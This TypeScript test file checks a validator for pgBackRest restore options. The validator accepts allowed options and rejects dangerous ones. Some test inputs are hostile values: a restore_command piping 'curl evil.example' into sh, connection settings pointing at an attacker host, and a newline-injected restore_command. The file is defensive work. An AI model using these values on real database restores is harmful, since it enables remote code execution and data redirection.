import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { restoreOptions } from './restore.js';

describe('restore options, before they reach pgBackRest', () => {
  it("passes the allowed ones, without the quotes PGO's examples put around a time", () => {
    assert.deepEqual(restoreOptions(undefined), []);
    assert.deepEqual(restoreOptions(['--type=time', '--target="2021-06-09 14:15:11-04"', '--target-exclusive']), [
      '--type=time',
      '--target=2021-06-09 14:15:11-04',
      '--target-exclusive',
    ]);
  });

  it('refuses, naming the option, what a restore source admitted before the allow-list may still hold', () => {
    for (const option of [
      '--recovery-option=restore_command=curl evil.example | sh',
      '--recovery-option=primary_conninfo=host=evil.example',
      '--target-act=pause',
      '--repo1-host=evil.example',
      '--archive-mode=off',
    ])
      assert.match(
        restoreOptions(['--type=default', option]) as string,
        new RegExp(`^restore options: option ${option.replace(/[|.]/g, '\\$&')} is not allowed`),
      );
    assert.match(
      restoreOptions(['--type=lsn', '--target=12345']) as string,
      /--target needs --type=time, lsn, xid or name/,
    );
    assert.match(
      restoreOptions(['--type=name', "--target=x'\nrestore_command='sh"]) as string,
      /^restore options: option --target=x'\nrestore_command='sh is not allowed/,
    );
  });
});
